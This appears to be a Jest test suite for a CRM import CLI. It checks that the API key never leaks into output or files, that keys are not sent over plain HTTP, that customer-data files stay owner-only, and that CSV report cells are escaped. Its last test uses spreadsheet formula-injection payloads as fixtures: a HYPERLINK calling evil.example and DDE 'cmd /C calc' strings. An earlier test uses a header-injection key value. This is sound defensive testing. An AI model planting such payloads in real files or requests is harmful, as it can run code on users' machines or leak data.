/**
 * Secrets and safety. The tool holds an API key with write access to a CRM and customer data:
 * the key must appear in nothing it writes (output, logs, report, ledger, even a ledger left
 * mid-write by a kill), the key never travels in clear text, the files with customer data are
 * the owner's only, and no report cell runs as a formula in a spreadsheet.
 */
import { randomBytes } from 'node:crypto';
import { chmodSync, existsSync, readdirSync, readFileSync, statSync, writeFileSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { startEmulator } from '../../src/emulator/index.js';
import type { RunningEmulator } from '../../src/emulator/options.js';
import { createLogger } from '../../src/log/logger.js';
import { collect, runCliProcess, startCliProcess, type CliResult } from '../helpers/cli.js';
import { createWorkspace, csvText, type Workspace } from '../helpers/workspace.js';
import { MAPPING } from './corpus.js';

/** Distinctive, so that any copy of it (or of its random part) is found. */
const SECRET = randomBytes(12).toString('hex');
const KEY = `sk_lf_leakcheck_${SECRET}`;

let emulator: RunningEmulator;
let workspace: Workspace;

beforeAll(async () => {
  // The emulator accepts only this key, so every request really carried it.
  emulator = await startEmulator({ apiKey: KEY, rate: 1000, readRate: 1000, searchRate: 1000 });
});
afterAll(async () => {
  await emulator.close();
});
beforeEach(() => {
  emulator.reset();
  workspace = createWorkspace('lfi-secrets-');
  workspace.writeJson('mapping.json', MAPPING);
});

function rows(count: number): string {
  const lines = Array.from({ length: count }, (_, index) => {
    const stage = index % 10 === 3 ? 'Verbally Agreed' : 'Proposal';
    const account = index % 10 === 7 ? 'Soylent Corp' : 'Initech';
    return `K${index},Secret-safe deal ${index},${stage},${account}`;
  });
  return `id,name,stage,account\n${lines.join('\n')}\n`;
}

/** Every file under `dir`, recursively. */
function filesUnder(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((entry) =>
    entry.isDirectory() ? filesUnder(join(dir, entry.name)) : [join(dir, entry.name)],
  );
}

/** Where the key (as UTF-8 or UTF-16, whole or its random part) or a `Bearer` header shows up. */
function leaksIn(name: string, bytes: Buffer): string[] {
  const needles: [string, Buffer][] = [
    ['key', Buffer.from(KEY)],
    ['key (UTF-16)', Buffer.from(KEY, 'utf16le')],
    ['random part of the key', Buffer.from(SECRET)],
    ['Bearer', Buffer.from('Bearer')],
    ['bearer', Buffer.from('bearer')],
  ];
  return needles.filter(([, needle]) => bytes.includes(needle)).map(([what]) => `${what} in ${name}`);
}

describe('the API key is never written', () => {
  test('import (killed mid-run, then with failures, debug logs and --json), plan and retry leave no trace of it', async () => {
    const env = { LIGHTFIELD_API_KEY: KEY, LIGHTFIELD_BASE_URL: emulator.url };
    const outputs: [string, CliResult][] = [];
    const scan = (): string[] => [
      ...outputs.flatMap(([name, result]) => [...leaksIn(`${name} stdout`, Buffer.from(result.stdout)), ...leaksIn(`${name} stderr`, Buffer.from(result.stderr))]),
      ...filesUnder(workspace.dir).flatMap((file) => leaksIn(file, readFileSync(file))),
    ];
    workspace.write('deals.csv', rows(300));
    const common = ['-m', workspace.path('mapping.json'), '--state', workspace.path('state.db')];

    // 1. Killed while importing: the ledger's write-ahead log is still on disk.
    const killed = startCliProcess(
      ['import', workspace.path('deals.csv'), ...common, '-o', workspace.path('killed'), '--rate', '50', '--log-level', 'trace'],
      { env },
    );
    const killedResult = collect(killed);
    for (let waited = 0; emulator.stats().createsExecuted < 20 && waited < 10_000; waited += 20) {
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    killed.kill('SIGKILL');
    outputs.push(['killed import', await killedResult]);
    expect(existsSync(workspace.path('state.db-wal'))).toBe(true);
    expect(scan()).toEqual([]);

    // 2. With failures (API errors, invalid rows, lookups that find nothing), the key on the command line.
    emulator.configure({ faults: { probability: 0.3, kinds: ['503', 'drop', 'commit_then_500'], only: 'write' } });
    const imported = await runCliProcess(
      ['import', workspace.path('deals.csv'), ...common, '-o', workspace.path('import'), '--api-key', KEY, '--rate', '1000', '--max-retries', '0', '--log-level', 'debug', '--json'],
      { env: { LIGHTFIELD_BASE_URL: emulator.url } },
    );
    outputs.push(['import', imported]);
    expect(imported.code).toBe(1);
    const summary = JSON.parse(imported.stdout) as { counts: Record<string, number> };
    expect(summary.counts['failed']).toBeGreaterThan(0);
    expect(summary.counts['invalid']).toBeGreaterThan(0);

    // 3. A plan and a retry with the key from the environment.
    emulator.configure({ faults: undefined });
    outputs.push([
      'plan',
      await runCliProcess(['plan', workspace.path('deals.csv'), ...common, '-o', workspace.path('plan'), '--rate', '1000', '--log-level', 'trace', '--json'], { env }),
    ]);
    const retried = await runCliProcess(
      ['retry', workspace.path('import/results.csv'), '--state', workspace.path('state.db'), '-o', workspace.path('retry'), '--rate', '1000', '--log-level', 'debug', '--json'],
      { env },
    );
    outputs.push(['retry', retried]);
    expect(retried.code).toBe(1); // the invalid rows stay invalid
    expect(emulator.stats().statusCodes['401'] ?? 0).toBe(0);

    const written = filesUnder(workspace.dir).map((file) => file.slice(workspace.dir.length + 1));
    expect(written).toEqual(expect.arrayContaining(['state.db', 'import/results.csv', 'import/failed.csv', 'import/summary.json', 'plan/summary.json', 'retry/results.csv']));
    expect(scan()).toEqual([]);
  }, 30_000);

  test.each([
    ['apiKey', { apiKey: KEY }],
    ['a nested apiKey', { options: { apiKey: KEY } }],
    ['authorization', { authorization: `Bearer ${KEY}` }],
    ['Authorization', { Authorization: `Bearer ${KEY}` }],
    ['headers.authorization', { headers: { authorization: `Bearer ${KEY}` } }],
    ['headers.Authorization', { headers: { Authorization: `Bearer ${KEY}` } }],
    ['request.headers.Authorization', { request: { headers: { Authorization: `Bearer ${KEY}` } } }],
    ['LIGHTFIELD_API_KEY', { env: { LIGHTFIELD_API_KEY: KEY } }],
    ['api_key', { api_key: KEY }],
  ])('the logger redacts %s, pretty or not', (_name, fields) => {
    for (const pretty of [false, true]) {
      const destination = new PassThrough();
      let output = '';
      destination.on('data', (chunk: Buffer) => (output += chunk.toString()));
      const logger = createLogger({ level: 'trace', pretty, destination });
      logger.info(fields, 'a log line with a credential in it');
      logger.flush();
      expect(output).toContain('a log line with a credential in it');
      expect(output).toContain('[redacted]');
      expect(output).not.toContain(SECRET);
    }
  });
});

describe('the API key never travels in clear text', () => {
  test.each([
    ['http://example.com', 2],
    ['http://10.1.2.3:4010', 2],
    ['http://127.0.0.1.example.com', 2],
    ['http://localhost.example.com:4010', 2],
  ])('--base-url %s is refused before any request', async (baseUrl, code) => {
    workspace.write('deals.csv', rows(3));
    const result = await runCliProcess(['plan', workspace.path('deals.csv'), '-m', workspace.path('mapping.json'), '-o', workspace.path('out'), '--base-url', baseUrl], {
      env: { LIGHTFIELD_API_KEY: KEY },
    });
    expect(result.code).toBe(code);
    expect(result.stderr).toContain('Refusing to send the API key in clear text');
    expect(result.stderr).toContain('https');
    expect(result.stderr + result.stdout).not.toContain(SECRET);
  });

  test('plain http to a loopback emulator is allowed', async () => {
    workspace.write('deals.csv', csvText([['id', 'name', 'stage', 'account'], ['1', 'Loopback deal', 'Proposal', 'Initech']]));
    expect(emulator.url).toMatch(/^http:\/\/127\.0\.0\.1:\d+$/);
    const result = await runCliProcess(
      ['import', workspace.path('deals.csv'), '-m', workspace.path('mapping.json'), '-o', workspace.path('out'), '--state', workspace.path('state.db'), '--base-url', emulator.url],
      { env: { LIGHTFIELD_API_KEY: KEY } },
    );
    expect(result.code).toBe(0);
    expect(emulator.opportunities()).toHaveLength(1);
  });
});

describe('a key or a base URL that cannot be used is refused without being printed', () => {
  const BROKEN_KEYS: [string, string, string][] = [
    ['a line break in the middle', `sk_lf_leakcheck_${SECRET.slice(0, 12)}\n${SECRET.slice(12)}`, 'a line break'],
    ['a header injected after a line break', `${KEY}\r\nX-Injected: yes`, 'a line break'],
    ['a space', `sk_lf_leakcheck ${SECRET}`, 'a space'],
    ['a non-ASCII character', `sk_lf_leakcheck_${SECRET}\u00e9`, 'a non-ASCII character (U+00E9)'],
  ];

  test.each(BROKEN_KEYS)('a key with %s, from the environment or --api-key: exit 2, --json too, the key nowhere', async (_name, brokenKey, says) => {
    workspace.write('deals.csv', rows(3));
    const common = ['plan', workspace.path('deals.csv'), '-m', workspace.path('mapping.json'), '-o', workspace.path('out'), '--state', workspace.path('state.db'), '--json'];
    for (const [where, args, env] of [
      ['environment', common, { LIGHTFIELD_API_KEY: brokenKey, LIGHTFIELD_BASE_URL: emulator.url }],
      ['--api-key', [...common, '--api-key', brokenKey], { LIGHTFIELD_BASE_URL: emulator.url }],
    ] as const) {
      const result = await runCliProcess([...args], { env });
      expect({ where, code: result.code }).toEqual({ where, code: 2 });
      expect(result.stderr).toContain(`The API key ${where === '--api-key' ? 'given with --api-key' : 'in LIGHTFIELD_API_KEY'} contains ${says}`);
      expect(JSON.parse(result.stdout)).toMatchObject({ exitCode: 2, error: { code: 'auth' } });
      expect(leaksIn(`${where} output`, Buffer.from(result.stdout + result.stderr))).toEqual([]);
    }
    expect(emulator.stats().requests.total).toBe(0);
  }, 60_000);

  test.each([
    ['a user name and password', `https://importer:${SECRET}@api.lightfield.app`],
    ['a user name and password, on loopback', `http://importer:${SECRET}@127.0.0.1:4010`],
    ['a password and a space (not a URL)', `https://importer:${SECRET}@api.light field.app`],
    ['a password and a broken IPv6 host', `http://importer:${SECRET}@[::1`],
    ['no scheme', `importer:${SECRET}@api.lightfield.app`],
  ])('--base-url with %s: exit 2, the password never echoed', async (_name, baseUrl) => {
    workspace.write('deals.csv', rows(3));
    const result = await runCliProcess(
      ['plan', workspace.path('deals.csv'), '-m', workspace.path('mapping.json'), '-o', workspace.path('out'), '--base-url', baseUrl, '--json'],
      { env: { LIGHTFIELD_API_KEY: KEY } },
    );
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('--base-url');
    expect(result.stdout + result.stderr).not.toContain(SECRET);
    expect(result.stdout + result.stderr).not.toContain(SECRET.slice(0, 8));
  });
});

describe('files with customer data are the owner\u2019s only', () => {
  test('an existing ledger that others may read is narrowed to the owner by the next import', async () => {
    workspace.write('deals.csv', rows(5));
    const args = ['import', workspace.path('deals.csv'), '-m', workspace.path('mapping.json'), '--state', workspace.path('state.db')];
    const env = { LIGHTFIELD_API_KEY: KEY, LIGHTFIELD_BASE_URL: emulator.url };
    await runCliProcess([...args, '-o', workspace.path('first')], { env });
    chmodSync(workspace.path('state.db'), 0o644);

    await runCliProcess([...args, '-o', workspace.path('second')], { env });

    expect((statSync(workspace.path('state.db')).mode & 0o777).toString(8)).toBe('600');
  }, 60_000);

  test('report files, report folder and ledger are created 0600 / 0700, even over an earlier, looser report', async () => {
    workspace.write('deals.csv', rows(20));
    // A report folder from an earlier run (or copied around) whose files anybody may read.
    mkdirSync(workspace.path('out'));
    for (const name of ['results.csv', 'failed.csv', 'summary.json']) {
      writeFileSync(workspace.path(`out/${name}`), 'old\n');
      chmodSync(workspace.path(`out/${name}`), 0o644);
    }
    const result = await runCliProcess(
      ['import', workspace.path('deals.csv'), '-m', workspace.path('mapping.json'), '-o', workspace.path('out'), '--state', workspace.path('ledger/state.db')],
      { env: { LIGHTFIELD_API_KEY: KEY, LIGHTFIELD_BASE_URL: emulator.url } },
    );
    expect(result.code).toBe(1);
    const mode = (path: string): string => (statSync(path).mode & 0o777).toString(8);
    expect(mode(workspace.path('ledger'))).toBe('700');
    for (const file of ['out/results.csv', 'out/failed.csv', 'out/summary.json', 'ledger/state.db']) {
      expect([file, mode(workspace.path(file))]).toEqual([file, '600']);
    }
    for (const file of ['ledger/state.db-wal', 'ledger/state.db-shm'].filter((name) => existsSync(workspace.path(name)))) {
      expect([file, mode(workspace.path(file))]).toEqual([file, '600']);
    }
  });
});

describe('no report cell runs as a formula', () => {
  const FORMULA_START = /^[=+\-@\t\r]/;
  const PLAIN_NUMBER = /^[+-]?(\d[\d,.' ]*)?\d([.,]\d+)?$/;
  const header = ['id', '@name', 'stage', 'account', '=notes', '+phone', '-owner', 'tab'];
  const mapping = { ...MAPPING, fields: { ...MAPPING.fields, $name: '@name' } };
  const hostile = (id: string, stage: string, account: string): string[] => [
    id,
    `=HYPERLINK("http://evil.example/?${id}","click")`,
    stage,
    account,
    '+cmd|" /C calc"!A0',
    '-2+3',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '\t=1+1',
  ];

  test('results.csv and failed.csv escape every formula-like cell (header too), and failed.csv imports back exactly', async () => {
    workspace.writeJson('mapping.json', mapping);
    const rowsIn = [hostile('F1', 'Proposal', 'Initech'), hostile('F2', 'Verbally Agreed', 'Initech'), hostile('F3', 'Proposal', 'Soylent Corp')];
    workspace.write('deals.csv', csvText([header, ...rowsIn]));
    const result = await runCliProcess(
      ['import', workspace.path('deals.csv'), '-m', workspace.path('mapping.json'), '-o', workspace.path('out'), '--state', workspace.path('state.db')],
      { env: { LIGHTFIELD_API_KEY: KEY, LIGHTFIELD_BASE_URL: emulator.url } },
    );
    expect(result.code).toBe(1);

    for (const file of ['out/results.csv', 'out/failed.csv']) {
      const cells = (parse(readFileSync(workspace.path(file)), { bom: true, relax_column_count: true }) as string[][]).flat();
      const unsafe = cells.filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell));
      expect([file, unsafe]).toEqual([file, []]);
    }
    expect(() => JSON.parse(readFileSync(workspace.path('out/summary.json'), 'utf8'))).not.toThrow();
    const created = emulator.opportunities();
    expect(created.map((record) => record.fields['$name']?.value)).toEqual([rowsIn[0]![1]]);

    // Fix the stage in failed.csv as a spreadsheet user would (escaped cells untouched), import it again.
    const failed = readFileSync(workspace.path('out/failed.csv'), 'utf8').replace('Verbally Agreed', 'Proposal');
    workspace.write('fixed.csv', failed);
    const again = await runCliProcess(
      ['import', workspace.path('fixed.csv'), '-m', workspace.path('mapping.json'), '-o', workspace.path('again'), '--state', workspace.path('state.db')],
      { env: { LIGHTFIELD_API_KEY: KEY, LIGHTFIELD_BASE_URL: emulator.url } },
    );
    expect({ code: again.code, stderr: again.stderr }).toMatchObject({ code: 1 }); // F3's account still does not exist
    const names = emulator.opportunities().map((record) => record.fields['$name']?.value);
    expect(names).toEqual([rowsIn[0]![1], rowsIn[1]![1]]);
  });
});
